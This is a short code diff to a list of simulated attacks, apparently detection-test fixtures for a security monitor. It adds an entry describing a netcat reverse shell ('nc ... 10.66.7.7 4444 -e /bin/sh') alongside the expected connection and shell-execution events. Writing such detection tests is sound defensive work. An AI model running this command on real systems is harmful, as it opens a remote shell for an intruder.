@@ -184,14 +184,14 @@ ATTACKS = [
             )
         ),
     ),
-    Attack(
-        "proc-revshell-nc own",
-        "process",
+    *pair(
+        "proc-revshell-nc",
         "high",
         (
             connected("10.66.7.7", 4444),
             executed("/bin/sh", path="/bin/busybox", inet_stdio=frozenset({0, 1, 2})),
         ),
+        (executed("nc", "-w", "3", "10.66.7.7", "4444", "-e", "/bin/sh", path="/bin/busybox"),),
     ),
     *pair(
         "proc-unshare-userns",
